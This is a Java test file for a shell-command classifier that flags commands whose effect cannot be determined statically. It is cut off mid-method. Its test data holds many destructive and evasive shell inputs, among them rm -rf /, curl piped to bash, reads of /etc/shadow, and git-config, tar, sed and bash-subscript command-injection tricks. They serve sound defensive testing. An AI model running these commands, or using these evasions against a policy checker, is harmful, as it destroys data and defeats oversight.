package hoop.policy.shell;

import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Inputs whose effect cannot be determined statically must be reported as unknown. */
class UnknownTest {

    @ParameterizedTest
    @ValueSource(strings = {
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "$CMD -rf /",
        "${CMD} -rf /",
        "\"$CMD\" -rf /",
        "$1 -rf /",
        "r$x -rf /",
        "$((1)) -rf /",
        "/usr/bin/r? -rf /",
        "/bin/r* -rf /",
        "/bin/r[m] -rf /",
        "rm${IFS}-rf${IFS}/",
        "a=rm; $a -rf /",
        "sudo $CMD",
        "env $CMD",
        "eval \"rm -rf /\"",
        "eval",
        "ssh host -F ./cfg true",
        "node --import 'data:text/javascript,import {execSync} from \"child_process\"; execSync(\"rm -rf /\")' s.js",
        "node --import=data:text/javascript,x s.js",
        "NODE_OPTIONS='--import=data:text/javascript,x' node s.js",
        "NODE_OPTIONS='--require /tmp/x.js' node s.js",
        "export NODE_OPTIONS='-r /tmp/x.js'; npm test",
        "RUBYOPT=-r/tmp/x ruby s.rb",
        "PERL5OPT=-Mevil perl s.pl",
        "JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar java -jar x.jar",
        "JAVA_TOOL_OPTIONS='-XX:OnOutOfMemoryError=rm -rf /' java -jar x.jar",
        "perf stat rm -rf /",
        "run-parts ./scripts",
        "hyperfine 'rm -rf /'",
        "bwrap --bind / / rm -rf /",
        "entr -s 'rm -rf /' < list",
        "ncat --lua-exec x.lua -l 9",
        "start-stop-daemon --start --pidfile p",
        "perl5.36.0 -e 'system(\"rm -rf /\")'",
        "perl5.36-x86_64-linux-gnu -e 1",
        "tclsh8.6",
        "vim.basic -c '!rm -rf /'",
        "lua5.4 -e 'os.execute(\"rm -rf /\")'",
        "node18 -e 1",
        "sqlite3 :memory: '.shell rm -rf /'",
        "sqlite3 -cmd '.system rm -rf /' :memory: .quit",
        "sqlite3 db.sqlite",
        "ex -c '!rm -rf /' -c q",
        "view -c '!rm -rf /' -c q",
        "vimdiff -c '!rm -rf /' a b",
        "ed -s f <<< '!rm -rf /'",
        "npx --weird rm -rf /",
        "kubectl exec pod rm -rf /",
        "f(){ rm \"$@\"; }; f -rf /",
        "function f { cat \"$1\"; }; f /etc/shadow",
        "bash -c 'rm \"$@\"' _ -rf /",
        "bash -c 'cat $0' /etc/shadow",
        "sh -c 'rm ${@}' x -rf /",
        "f(){ rm \"${@:1}\"; }; f -rf /",
        "git config core.fsmonitor 'rm -rf /'",
        "git config --global alias.x '!rm -rf /'",
        "git config set alias.x '!rm -rf /'",
        "git config -f .git/config core.sshCommand 'rm -rf /'",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf /' git x",
        "GIT_CONFIG_PARAMETERS=\"'alias.x'='!rm -rf /'\" git x",
        "GIT_CONFIG_GLOBAL=/tmp/evil git x",
        "export GIT_CONFIG_GLOBAL=/tmp/evil; git x",
        "git rebase -x \"$CMD\" HEAD~1",
        "tmux new-session -d 'rm -rf /'",
        "screen -dm rm -rf /",
        "parallel rm -rf ::: /",
        "parallel ::: 'rm -rf /'",
        "make -E 'x:;rm -rf /' x",
        "make --eval='x:;rm -rf /' x",
        "fakeroot",
        "setarch x86_64",
        "capsh == --print",
        "source ./x.sh",
        ". ./x.sh",
        "alias ls='rm -rf /'",
        "trap 'rm -rf /' EXIT",
        "enable -f ./x.so x",
        "hash -p /bin/rm ls",
        "exec -a name",
        "curl x | bash",
        "curl x | sh -s",
        "curl x | python3",
        "echo cm0= | base64 -d | sh",
        "bash < file",
        "bash <<EOF\nrm -rf /\nEOF",
        "bash <<< 'rm -rf /'",
        "sh <(curl x)",
        "sh <(echo hi)",
        "bash script.sh",
        "sh ./install.sh",
        "bash -c \"$X\"",
        "bash -c \"$(curl x)\"",
        "bash -c",
        "python3 -c 'import os'",
        "python -Ic 'import os'",
        "python3 -",
        "perl -e 'unlink'",
        "perl -ne 'print' f",
        "ruby -e 'x'",
        "node -e 'x'",
        "node --eval 'x'",
        "node -p 'x'",
        "php -r 'x();'",
        "lua -e 'x()'",
        "awk 'BEGIN { system(\"rm -rf /\") }'",
        "awk '{ print | \"sh\" }' f",
        "gawk -e 'BEGIN{system(\"x\")}'",
        "osascript -e 'x'",
        "Rscript -e 'x'",
        "jshell",
        "pwsh -c 'x'",
        "pwsh -Command x",
        "sed -n '1e rm -rf /' f",
        "sed 's/x/rm -rf \\//e' f",
        "sed '0~1e rm -rf /' f",
        "sed '1,+1e rm -rf /' f",
        "sed '1,~4e rm -rf /' f",
        "sed '\\,x,!e rm -rf /' f",
        "sed '/x/I!e rm -rf /' f",
        "sed '/x/M e rm -rf /' f",
        "sed -l 5 '1e rm -rf /' f",
        "sed -nl5 '1e rm -rf /' f",
        "sed --line-length 5 '1e rm -rf /' f",
        "sed --ex '1e rm -rf /' f",
        "sed f -e 'p' -e '$e rm -rf /'",
        "sed 's/.*/rm -rf \\// g e' f",
        "sed 's/[/]/x/;e rm -rf /' f",
        "sed -e 's/.*/rm -rf \\//' -e e f",
        "sed ':a;e rm -rf /' f",
        "sed --fi=s.sed f",
        "sed --weird 's/a/b/' f",
        "sed 's/a/b/q' f",
        "nice --frobnicate x rm -rf /",
        "stdbuf --new-option x rm -rf /",
        "ltrace --align 5 rm -rf /",
        "python3 -m timeit -n1 'import shutil; shutil.rmtree(\"/\")'",
        "python3 -mcode <<< x",
        "python3.11 -m pdb s.py",
        "python3 -m asyncio",
        "python3 -i s.py",
        "python3 -Wignore -Ei s.py",
        "perl -d s.pl",
        "perl -wd s.pl",
        "tar xf a.tar --to-com='rm -rf /'",
        "tar xf a.tar --to-c 'rm -rf /'",
        "tar cf b.tar --checkpoint=1 --checkpoint-ac=exec='rm -rf /' f",
        "tar cf b.tar --use-compress='rm -rf /;cat' f",
        "tar -xIrm -f a.tar",
        "tar xIf 'rm -rf /' a.tar",
        "scp -qS prog a h:b",
        "man -aP 'rm -rf /' ls",
        "split --filt='rm -rf /' f",
        "sort --compress=x f",
        "TAR_OPTIONS='--to-command=rm\\ -rf\\ /' tar xf a.tar",
        "export TAR_OPTIONS=\"-I 'rm -rf /'\"; tar xf a.tar",
        "TAR_OPTIONS=$X tar xf a.tar",
        "make SHELL=/bin/rm .SHELLFLAGS='-rf /'",
        "make '.SHELLFLAGS=-c rm\\ -rf\\ /;'",
        "make 'override SHELL:=/bin/rm'",
        "MAKEFLAGS='SHELL=/bin/rm .SHELLFLAGS=-rf\\ /' make",
        "GNUMAKEFLAGS=--eval=x make",
        "export MAKEFLAGS=-f/dev/stdin; make",
        "git -c alias.x='!rm -rf /' x",
        "git -c core.pager='rm -rf /' log",
        "xargs sh -c",
        "xargs -I{} sh -c '{}'",
        "echo rm | xargs sudo",
        "find . -exec {} \\;",
        "find . -exec sh -c '{}' \\;",
        "find . -exec rm {}",
        "find . -exec $X \\;",
        "sudo -s",
        "sudo -i",
        "su",
        "su -l root",
        "chroot /mnt",
        "ssh host",
        "env -S 'rm -rf /'",
        "BASH_ENV=./x bash -c ls",
        "LD_PRELOAD=./x.so ls",
        "PATH=/tmp:$PATH ls",
        "export PATH=.:$PATH; ls",
        "PATH=$PATH:./node_modules/.bin; jest",
        "env PATH=/tmp/x ls",
        "echo 'unterminated",
        "echo \"unterminated",
        "echo $(ls",
        "echo `ls",
        "{ ls",
        "( ls",
        "if true; then ls",
        "while true; do ls",
        "case x in a) ls;;",
        "cat <<EOF\nno end",
        "ls )",
        "ls && && rm",
        "echo ${x",
        "x='a[$(rm -rf /)]'; echo $((x))",
        "let 'a[$(rm -rf /)]=1'",
        "echo ${x@P}",
        "GIT_PAGER=\"$X\" git log",
        "tar -cf x.tar --to-command='rm -rf /' a",
        "tar --checkpoint=1 --checkpoint-action=exec='rm -rf /' -cf x a",
        "vim -c ':!rm -rf /'",
        "echo 'rm -rf /' | at now",
        "echo x > >(sh)",
        "source <(curl x)",
        "bash /dev/stdin <<< 'rm -rf /'",
        "xargs -0 -I % sh -c 'rm %'",
        "echo \"$(printf rm)\" | xargs env",
        "read PATH <<< /tmp; ls",
        "read -r -a PATH; ls",
        "printf -v PATH /tmp; ls",
        "printf -v BASH_ENV ./x; bash -c ls",
        "mapfile -t LD_PRELOAD < f; ls",
        "getopts p GIT_PAGER; git log",
        "for PATH in /tmp; do ls; done",
        "select PATH in /tmp; do ls; done",
        "n=PATH; declare \"$n=/tmp\"; ls",
        "export \"$n\"=/tmp; ls",
        "declare -n p=PATH; p=/tmp; ls",
        "local -n r=x",
        "BASH_CMDS[ls]=/bin/rm; ls -rf /",
        "BASH_CMDS=([ls]=/bin/rm); ls -rf /",
        "declare -A BASH_CMDS=([ls]=/bin/rm); ls -rf /",
        "declare 'BASH_CMDS[ls]=/bin/rm'; ls -rf /",
        "printf -v 'BASH_CMDS[ls]' /bin/rm; ls -rf /",
        "shopt -s expand_aliases; BASH_ALIASES[ls]=rm\nls -rf /",
        "x='$(rm -rf /)'; PS4=$x; set -x; :",
        "read x; echo $((x))",
        "x=$(cat f); echo $((x + 1))",
        "read x; let y=x",
        "read x; [[ $x -eq 1 ]]",
        "read x; echo ${a[x]}",
        "read x; s=abc; echo ${s:x:1}",
        "x='a[$(rm -rf /)]'; echo ${y[x]}",
        "x='a[$(rm -rf /)]'; echo ${y:x}",
        "x='a[$(rm -rf /)]'; y[x]=1",
        "declare -i n; read n",
        "split --filter='rm -rf /' f",
        "sort --compress-program=x f",
        "scp -o ProxyCommand='rm -rf /' a h:b",
        "scp -o 'proxycommand rm -rf /' a h:b",
        "scp -oLocalCommand=x -oPermitLocalCommand=yes a h:b",
        "scp -F ./cfg a h:b",
        "sftp -o ProxyCommand=x h",
        "sftp h",
        "sftp -b batch h",
        "git clone -c core.sshCommand=x h:r",
        "git clone --config=alias.x=!y r",
        "git -C . clone --config core.fsmonitor=x r d",
        "git clone --template=/tmp/t r",
        "tcpdump -z x -w f",
        "wget --use-askpass=x u",
        "psql -c '\\! rm -rf /'",
        "psql -c '\\o |rm -rf /'",
        "psql -c 'select 1' -c '\\g | sh'",
        "psql --command='\\i x.sql'",
        "psql -c \"\\copy t to program 'rm -rf /'\"",
        "psql -f x.sql",
        "psql -fx.sql",
        "psql < x.sql",
        "psql -c \"$Q\"",
        "mysql -e 'system rm -rf /'",
        "mysql -e 'select 1; \\! rm -rf /'",
        "mysql --pager='rm -rf /' -e 'select 1'",
        "mysql db < x.sql",
        "crontab f",
        "crontab - <<< '* * * * * rm -rf /'",
        "./x -rf /",
        "cp /bin/rm /tmp/x; /tmp/x -rf /",
        "ln -s /bin/rm ls; ./ls -rf /",
        "sudo ./x",
        "/proc/self/exe -c 'rm -rf /'",
        "/usr/bin/../../tmp/x",
        "node_modules/.bin/jest",
        "make -f - <<< 'x:;rm -rf /'",
        "make -f /dev/stdin x <<< 'x:;rm -rf /'",
        "make --file=- x",
        "make -f <(echo 'x:;rm -rf /') x",
        "echo x | make -f/dev/fd/0",
        "vim +10 notes.txt",
        "vi notes.txt",
        "printf ':!rm -rf /\\n:q!\\n' | vim notes.txt",
        "ex notes.txt",
        "vim.basic -es",
        "nvim -es",
        "gdb -q",
        "gdb ./prog core",
        "nu -c 'rm -rf /'",
        "elvish x.elv",
        "xonsh -c x",
        "nix-shell -p hello",
        "nix run nixpkgs#hello",
        "nix develop",
        "ansible all -m script -a x.sh",
        "ansible all -a \"$X\"",
        "sh -c 'echo hi &>/dev/null rm -rf /'",
        "sh -c '((rm -rf /))'",
        "dash -c '[[ a && rm -rf / ]]'",
        "sh -c \"echo $'a\\\\' ; rm -rf / ; echo '\"",
        "git rebase -x 'echo hi &>/dev/null rm -rf /' HEAD~1",
        "watch 'true |& rm -rf /'",
        "zsh -c '=rm -rf /'",
        "zsh -c 'echo *(e:\"rm -rf /\":)'",
        "fish -c 'ls'",
        "printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config; git status",
        // a git directory named otherwise: its config was written as any file
        "printf '[core]\\n\\tfsmonitor = x\\n' > d/config; git --git-dir=d --work-tree=. status",
        "git --git-dir /tmp/d status",
        "GIT_DIR=/tmp/d git status",
        "export GIT_DIR=d; git log",
        "GIT_COMMON_DIR=/tmp/d git status",
        "read d; git --git-dir=\"$d\" status",
        "echo x | tee -a .git/config",
        "cp hook .git/hooks/pre-commit",
        "install -m 755 hook .git/hooks/pre-push",
        "cd repo/.git && echo x >> config",
        "sed -i s/a/b/ .git/config",
        "echo '[alias] p = push' > ~/.gitconfig",
        "dd of=.git/config",
        "ln -s /tmp/hooks .git/hooks",
        "git -c difftool.x.cmd='rm -rf /' difftool -t x",
        "git -c mergetool.x.cmd='rm -rf /' mergetool -t x",
        "git -c tar.tgz.command='rm -rf /' archive --format=tgz HEAD",
        "git -c core.alternateRefsCommand='rm -rf /' fetch",
        "git -c interactive.diffFilter='rm -rf /' add -p",
        "git -c gpg.ssh.defaultKeyCommand='rm -rf /' commit -S -m x",
        "git -c man.x.cmd='rm -rf /' -c help.format=man help -m log",
        "git config --global init.templateDir /tmp/t",
        "git init --template=/tmp/t repo",
        "git p -q origin main",
        "printf '[alias]\\n\\tp = push\\n' >> .git/config; git p",
        "git -C repo --no-pager st",
    })
    void isUnknown(String script) {
        ShellAnalysis a = ShellClassifier.analyzeScript(script);
        assertTrue(a.unknown(), () -> "expected unknown for: " + script + " got " + a.commands());
    }

    /**
     * A line that writes a file and then runs it through an interpreter or a build tool runs what it wrote, not a project
     * file: the script itself, a module beside it that python imports, a makefile, package.json or .npmrc, in a loop or
     * a function called after the write too.
     */
    @ParameterizedTest
    @ValueSource(strings = {
        "printf 'import shutil\\nshutil.rmtree(\"d\")\\n' > x.py && python3 x.py",
        "echo 'system(\"rm -rf d\")' > x.pl; perl x.pl",
        "echo 'require(\"child_process\").execSync(\"rm -rf d\")' > x.js; node x.js",
        "printf 'all:\\n\\trm -rf d\\n' > Makefile; make",
        "printf 'a:\\n\\trm -rf d\\n' | tee GNUmakefile > /dev/null; make a",
        "echo 'x:; rm -rf d' > mk; make -f mk x",
        "cp /dev/stdin Makefile <<< $'a:\\n\\trm -rf d'; make a",
        "dd of=makefile status=none <<< $'a:\\n\\trm -rf d'; make a",
        "echo 'x:; rm -rf d' > /tmp/p/Makefile; make -C /tmp/p x",
        "sed -i 's/@true/rm -rf d/' Makefile && make",
        "echo '{\"scripts\":{\"test\":\"rm -rf d\"}}' > package.json; npm test",
        "echo 'script-shell=/tmp/evil' > .npmrc; npm test",
        "echo 'import shutil; shutil.rmtree(\"d\")' > conftest.py; python3 -m pytest",
        "echo 'import shutil; shutil.rmtree(\"d\")' > json.py; python3 -m json.tool f",
        "echo 'import os' > y.py; mv y.py manage.py; python3 manage.py test",
        "echo 'import os' > y; install -m 644 y lib.py; python3 run.py",
        "curl -so x.py https://example.com/x.py; python3 x.py",
        "python3 gen.py > out.py && python3 out.py",
        "for i in 1 2; do python3 x.py; echo 'import os' > x.py; done",
        "f() { python3 x.py; }; echo 'import os' > x.py; f",
        "echo 'import os' > \"$F\"; python3 run.py",
        "exec 3>x.py; echo 'import os' >&3; python3 x.py",
        "echo 'import os' | awk '{print > \"x.py\"}'; python3 x.py",
        "echo 'import os' | sort -o x.py; python3 x.py",
        "echo 'import os' | uniq - x.py; python3 x.py",
        "echo 'import os' | iconv -o x.py; python3 x.py",
        "echo 696d706f7274206f73 | xxd -r -p - x.py; python3 x.py",
        "echo 'import os' | sed -n 'w x.py'; python3 x.py",
        "printf 'x' | tar x; make",
        "printf 'x' > a.tar; tar xf a.tar; make",
        "curl -sLO https://example.com/x.tar.gz && tar xzf x.tar.gz && make -C x",
        "printf 'x' > a.zip; unzip -o a.zip; python3 x.py",
        "printf 'x' | patch -p0; make",
        "printf 'x' > fix.diff; git apply fix.diff; make",
        "echo 'import os' > /w/x.js; node --experimental-loader /tmp/l.mjs /w/x.js",
        "echo 'import os' > /tmp/p/evil.py; PYTHONPATH=/tmp/p python3 -m evil",
        "echo 'import os' > /tmp/p/evil.py; export PYTHONPATH=/tmp/p; python3 /srv/app.py",
        "printf 'a:\\n\\trm -rf d\\n' > /tmp/mk; make --file=/tmp/mk a",
        "printf 'a:\\n\\trm -rf d\\n' > /tmp/mk; make -f/tmp/mk a",
        "printf 'a:\\n\\trm -rf d\\n' > /tmp/m/Makefile; make -C/tmp/m a",
    })
    void aFileTheLineWritesAndThenRunsIsUnknown(String script) {
        ShellAnalysis a = ShellClassifier.analyzeScript(script);
        assertTrue(a.unknown(), () -> "expected unknown for: " + script + " got " + a.commands());
        assertTrue(a.unknownReasons().stream().anyMatch(r -> r.contains("which this line writes")), a.unknownReasons()::toString);
    }

    /** make expands $(shell ...) in a variable's value itself, and a value set at run time may be any command line. */
    @ParameterizedTest
    @ValueSource(strings = {
        "make CFLAGS='-O2 $(shell rm -rf d)'",
        "make 'X=$(shell rm -rf d)'",
        "export CC='$(shell rm -rf d)'; make",
        "CC=$(cat f) make",
        "read CC; make",
        "make CC=$(cat f)",
    })
    void makeVariablesMakeOrTheLineComputesAreUnknown(String script) {
        ShellAnalysis a = ShellClassifier.analyzeScript(script);
        assertTrue(a.unknown(), () -> "expected unknown for: " + script + " got " + a.commands());
    }

    /**
     * Files other programs read commands from, later and unseen: writing one runs its command in this line or a later
     * one, as writing git's configuration does; and a configuration the line writes and hands a program.
     */
    @ParameterizedTest
    @ValueSource(strings = {
        "printf 'Host *\\n ProxyCommand rm -rf d\\n' > ~/.ssh/config; ssh h ls",
        "printf 'Host *\\n ProxyCommand rm -rf d\\n' >> $HOME/.ssh/config",
        "echo 'rm -rf d' >> ~/.bashrc; bash -ic ls",
        "cd && echo 'rm -rf d' >> .profile",
        "echo 'rm -rf d' > ~/.zshenv",
        "cp evil ~/.kube/config; kubectl get pods",
        "printf '[default]\\ncredential_process = rm -rf d\\n' > ~/.aws/config; aws s3 ls",
        "echo 'script-shell=/tmp/x' > ~/.npmrc; npm test",
        "echo 'import os' > ~/.local/lib/python3.11/site-packages/x.pth",
        "tee -a ~/.profile <<< 'rm -rf d'",
        "echo '* * * * * root rm -rf d' > /etc/cron.d/x",
        "echo /tmp/x.so > /etc/ld.so.preload",
        "echo 'APT::Update::Pre-Invoke {\"rm -rf d\";};' > /etc/apt/apt.conf.d/99x",
        "echo '\\! rm -rf d' > ~/.psqlrc",
        "echo 'shell rm -rf d' > ~/.gdbinit",
        "printf 'x' > k.yaml; kubectl --kubeconfig k.yaml get pods",
        "printf 'x' > k.yaml; KUBECONFIG=k.yaml kubectl get pods",
        "printf 'x' > k.yaml; export KUBECONFIG=$PWD/k.yaml; helm list",
        "printf 'x' > c; AWS_CONFIG_FILE=c aws s3 ls",
        "echo 'script-shell=/tmp/x' > u; npm --userconfig u test",
        // a directory programs are found in by name: the next command of that name is the file written
        "cp /bin/rm /usr/local/bin/ls; ls -rf d",
        "ln -sf /bin/rm ~/.local/bin/ls; ls -rf d",
        "printf '#!/bin/sh\\nrm -rf d\\n' > /usr/local/bin/kubectl-x; chmod +x /usr/local/bin/kubectl-x; kubectl x",
        "cp evil ~/.docker/cli-plugins/docker-x; docker x",
        "install -m 755 evil -t /usr/local/sbin",
        "cd /usr/local/bin && cp /bin/rm ls",
    })
    void filesOtherProgramsReadCommandsFromAreUnknown(String script) {
        ShellAnalysis a = ShellClassifier.analyzeScript(script);
        assertTrue(a.unknown(), () -> "expected unknown for: " + script + " got " + a.commands());
    }

    /** An option of docker run not known here may take a value or not: the command after the image cannot be located. */
    @ParameterizedTest
    @ValueSource(strings = {
        "docker run --newopt alpine rm -rf d",
        "docker run -Z alpine rm -rf d",
        "kubectl run x --image=alpine --overrides='{\"spec\":{}}'",
        "docker run --entrypoint '' alpine rm -rf d",
        "docker exec $OPT web rm -rf d",
        "rg --pre ./evil x",
        "pandoc --filter=./f x.md",
        "pdflatex -shell-escape x.tex",
        "xelatex --shell-escape x.tex",
        "latexmk -pdf -e '$pdflatex=q/rm -rf d/' x.tex",
        "latexmk -pdflatex='rm -rf d %O %S' x.tex",
        "echo flushall | redis-cli",
        "redis-cli -h cache -n 2 < cmds.txt",
        "redis-cli --pipe < cmds.txt",
        "echo 'db.dropDatabase()' | mongosh mongodb://db/app",
    })
    void containerCommandsThatCannotBeLocatedAreUnknown(String script) {
        ShellAnalysis a = ShellClassifier.analyzeScript(script);
        assertTrue(a.unknown(), () -> "expected unknown for: " + script + " got " + a.commands());
    }

    /**
     * bash takes these values as a variable's name and evaluates the subscript in it, so x='a[$(rm -rf /)]' runs rm in
     * "${!x}", "[[ -v $x ]]", "test -v $x" and "unset $x" (an array a declared) as it does in "$((x))".
     */
    @ParameterizedTest
    @ValueSource(strings = {
        "x='a[$(rm -rf /)]'; echo ${!x}",
        "x='a[$(rm -rf /)]'; : \"${!x:-y}\"",
        "x='a[$(rm -rf /)]'; echo \"${!x//a/b}\"",
        "x='a[$(rm -rf /)]'; y=$x; echo ${!y}",
        "x=$(cat f); echo ${!x}",
        "read x; echo ${!x#p}",
        "x='a[$(rm -rf /)]'; [[ -v $x ]]",
        "read x; [[ -n y && -v $x ]]",
        "x='a[$(rm -rf /)]'; test -v \"$x\"",
        "read x; [ -v \"$x\" ]",
        "x='a[$(rm -rf /)]'; declare -a a; unset \"$x\"",
        "read x; unset -v \"$x\"",
        "sleep 1 & x='a[$(rm -rf /)]'; wait -p \"$x\" -n",
        "sleep 1 & read x; wait -n -p\"$x\"",
        "x='a[$(rm -rf /)]'; printf -v\"$x\" 1",
        // the option word computed: bash reads the expanded word as -v / -p
        "o=-v; x='a[$(rm -rf /)]'; printf $o \"$x\" 1",
        "read o; x='a[$(rm -rf /)]'; printf \"$o\" \"$x\" 1",
        "x='a[$(rm -rf /)]'; for v in -v; do printf $v \"$x\" 1; done",
        "o=-p; sleep 1 & x='a[$(rm -rf /)]'; wait -n $o \"$x\"",
        "o=-v; x='a[$(rm -rf /)]'; test $o \"$x\"",
        "read o; x='a[$(rm -rf /)]'; [ ! $o \"$x\" ]",
        "o=-v; printf $o PATH %s /tmp/e:/usr/bin; ls",
    })
    void aValueTakenAsAVariablesNameIsUnknownWhenItMaySpellASubstitution(String script) {
        ShellAnalysis a = ShellClassifier.analyzeScript(script);
        assertTrue(a.unknown(), () -> "expected unknown for: " + script + " got " + a.commands());
    }

    /** A directory that is a git directory now, whatever its name: writing its config or hooks is writing git's. */
    @org.junit.jupiter.api.Test
    void writingTheConfigOfAGitDirectoryOnDiskIsUnknown(@org.junit.jupiter.api.io.TempDir java.nio.file.Path tmp)
            throws Exception {
        java.nio.file.Path bare = tmp.resolve("store");
        java.nio.file.Files.createDirectories(bare.resolve("objects"));
        java.nio.file.Files.createDirectories(bare.resolve("refs"));
        java.nio.file.Files.writeString(bare.resolve("HEAD"), "ref: refs/heads/main\n");
        for (String script : new String[] {"printf '[core]\\n\\tfsmonitor = x\\n' >> " + bare + "/config",
                "cp hook " + bare + "/hooks/pre-commit", "cd " + bare + " && echo x | tee -a config"}) {
            ShellAnalysis a = ShellClassifier.analyzeScript(script);
            assertTrue(a.unknown(), () -> "expected unknown for: " + script + " got " + a.commands());
        }
        java.nio.file.Files.delete(bare.resolve("HEAD"));
        assertTrue(!ShellClassifier.analyzeScript("printf 'x=1\\n' >> " + bare + "/config").unknown());
    }

    /** A directory the same script makes a git directory is one when its config is written, before or after. */
    @ParameterizedTest
    @ValueSource(strings = {
        "git init -q --bare /w/X && printf '[core]\\n\\tfsmonitor = x\\n' > /w/X/config && git --git-dir=/w/X.git log",
        "cd /w && git init --bare X; echo '[alias] s = !x' >> X/config",
        "cd /w/X && git init --bare && echo '[core] pager = x' >> config",
        "git -C /w init --bare X && cp hook /w/X/hooks/pre-commit",
        "git init --separate-git-dir=/w/sep /w/t && tee -a /w/sep/config <<< x",
        "git clone --mirror https://h/r.git /w/m && printf x >> /w/m/config",
        "git clone --bare --separate-git-dir /w/s2 https://h/r.git /w/t2; printf x > /w/s2/hooks/post-checkout",
        "printf x > /w/y/config; mkdir -p /w/y/objects /w/y/refs; echo 'ref: refs/heads/main' > /w/y/HEAD",
        "ln -s refs/heads/main /w/y/HEAD && printf x >> /w/y/config",
        "git init --bare \"$D\" && printf x >> /w/z/config",
        "git init --bare /w/z && printf x >> \"$D\"/config",
    })
    void writingTheConfigOfAGitDirectoryMadeInTheScriptIsUnknown(String script) {
        ShellAnalysis a = ShellClassifier.analyzeScript(script);
        assertTrue(a.unknown(), () -> "expected unknown for: " + script + " got " + a.commands());
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "git init --bare /w/X && printf 'x=1\\n' >> /w/app/config",
        "git clone -q https://h/r.git /w/r && cp defaults.conf /w/r/config",
        "echo 'ref: x' > /w/a/HEAD; printf x >> /w/b/config",
    })
    void writingAConfigBesideAGitDirectoryMadeInTheScriptIsKnown(String script) {
        ShellAnalysis a = ShellClassifier.analyzeScript(script);
        assertTrue(!a.unknown(), () -> "expected known for: " + script + " got " + a.unknownReasons());
    }

    static void sh(java.nio.file.Path dir, String script) throws Exception {
        Process p = new ProcessBuilder("bash", "-c", script).directory(dir.toFile()).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes());
        org.junit.jupiter.api.Assertions.assertEquals(0, p.waitFor(), out);
    }

    /**
     * A program git runs from the configuration or hooks on disk where it runs is judged as a command the line runs: an
     * archive hoop could not list (xz) planted .git/config with core.fsmonitor, and "git status" there in a later call
     * ran it. A hook in another language, a git command in a computed directory, and a HOME or XDG_CONFIG_HOME set at
     * run time are unknown; an ordinary repository (a clone's config, sample hooks, an alias) is judged as before.
     */
    @org.junit.jupiter.api.Test
    void programsInGitConfigurationOnDiskAreJudged(@org.junit.jupiter.api.io.TempDir java.nio.file.Path tmp) throws Exception {
        String t = tmp.toString();
        sh(tmp, "mkdir home && for r in fsm inc hook py wt bare.git plain lfs; do git init -q $( [ $r = bare.git ] && echo --bare) $r; done"
                + " && printf '[core]\\n\\tfsmonitor = \"rm -rf /srv/victim #\"\\n' >> fsm/.git/config"
                + " && printf '[include]\\n\\tpath = ../../extra.cfg\\n' >> inc/.git/config"
                + " && printf '[filter \"x\"]\\n\\tsmudge = rm -rf /srv/victim\\n' > extra.cfg"
                + " && printf '#!/bin/sh\\nrm -rf /srv/victim\\n' > hook/.git/hooks/post-index-change && chmod +x hook/.git/hooks/post-index-change"
                + " && printf '#!/usr/bin/env python3\\nimport os\\n' > py/.git/hooks/pre-commit && chmod +x py/.git/hooks/pre-commit"
                + " && git -C plain -c user.name=u -c user.email=u@h commit -q --allow-empty -m x && git -C plain worktree add -q ../wt2"
                + " && printf '[core]\\n\\tpager = rm -rf /srv/victim\\n' | tee -a plain/.git/config.worktree >> plain/.git/worktrees/wt2/config.worktree"
                + " && printf '[diff \"x\"]\\n\\ttextconv = rm -rf /srv/victim\\n' >> bare.git/config"
                + " && printf '[alias]\\n\\tlg = log --oneline\\n\\tst = !rm -rf /srv/victim\\n[core]\\n\\tpager = less -R\\n' > home/.gitconfig"
                + " && printf '[filter \"lfs\"]\\n\\tclean = git-lfs clean -- %%f\\n\\trequired = true\\n' >> lfs/.git/config");
        java.nio.file.Path cwd = tmp;
        String home = t + "/home";
        for (String script : new String[] {"cd " + t + "/fsm && git status", "git -C " + t + "/fsm/sub/.. status --short",
                "cd " + t + "/inc && git diff", "cd " + t + "/hook && git status", "git --git-dir=" + t + "/bare.git log",
                "cd " + t + "/plain && git log", "cd " + t + "/wt2 && git log", "GIT_DIR=" + t + "/fsm/.git git log"}) {
            ShellAnalysis a = ShellClassifier.analyzeScript(script, cwd, home);
            assertTrue(a.commands().stream().anyMatch(c -> c.program().equals("rm") && c.args().contains("/srv/victim")),
                    () -> "expected the planted rm judged for: " + script + " got " + a.commands() + a.unknownReasons());
        }
        for (String script : new String[] {"cd " + t + "/py && git commit -m x", "cd \"$(cat d)\" && git status",
                "git -C \"$D\" log", "HOME=$(mktemp -d) git log", "cd " + t + "/lfs; XDG_CONFIG_HOME=$(cat x) git status"}) {
            ShellAnalysis a = ShellClassifier.analyzeScript(script, cwd, home);
            assertTrue(a.unknown(), () -> "expected unknown for: " + script + " got " + a.commands());
        }
        for (String script : new String[] {"cd " + t + "/lfs && git status", "git -C " + t + "/lfs log --oneline", "cd " + t + "/lfs && cd \"$(git rev-parse --show-toplevel)\" && git status",
                "git clone -q " + t + "/plain \"$(mktemp -d)/c\"", "git --version", "cd " + t + "/home && git init -q x",
                // a hook git runs only on a commit (the pre-commit framework's, in Python) is no concern of a read
                "cd " + t + "/py && git status", "cd " + t + "/py && git log -1 && git diff --stat"}) {
            ShellAnalysis a = ShellClassifier.analyzeScript(script, cwd, home);
            assertTrue(!a.unknown() && a.commands().stream().noneMatch(c -> c.program().equals("rm")),
                    () -> "expected known for: " + script + " got " + a.commands() + a.unknownReasons());
        }
        // a command with no HOME reads no global file, as git does, and the repository's still
        ShellAnalysis noHome = ShellClassifier.analyzeScript("cd " + t + "/lfs && git status && cd ../fsm && git status", cwd, null);
        assertTrue(!noHome.unknown() && noHome.commands().stream().anyMatch(c -> c.program().equals("rm")), noHome::toString);
        ShellAnalysis alias = ShellClassifier.analyzeScript("cd " + t + "/lfs && git st", cwd, home);
        assertTrue(alias.unknown() || alias.commands().stream().anyMatch(c -> c.program().equals("rm")), alias::toString);
    }

    /**
     * An archive or patch whose members land in a git directory (.git/config, .git/hooks, a bare repository's config)
     * is unknown wherever it is unpacked; one whose members hoop cannot read first is unknown in a git work tree.
     */
    @org.junit.jupiter.api.Test
    void unpackingIntoAGitDirectoryIsUnknown(@org.junit.jupiter.api.io.TempDir java.nio.file.Path tmp) throws Exception {
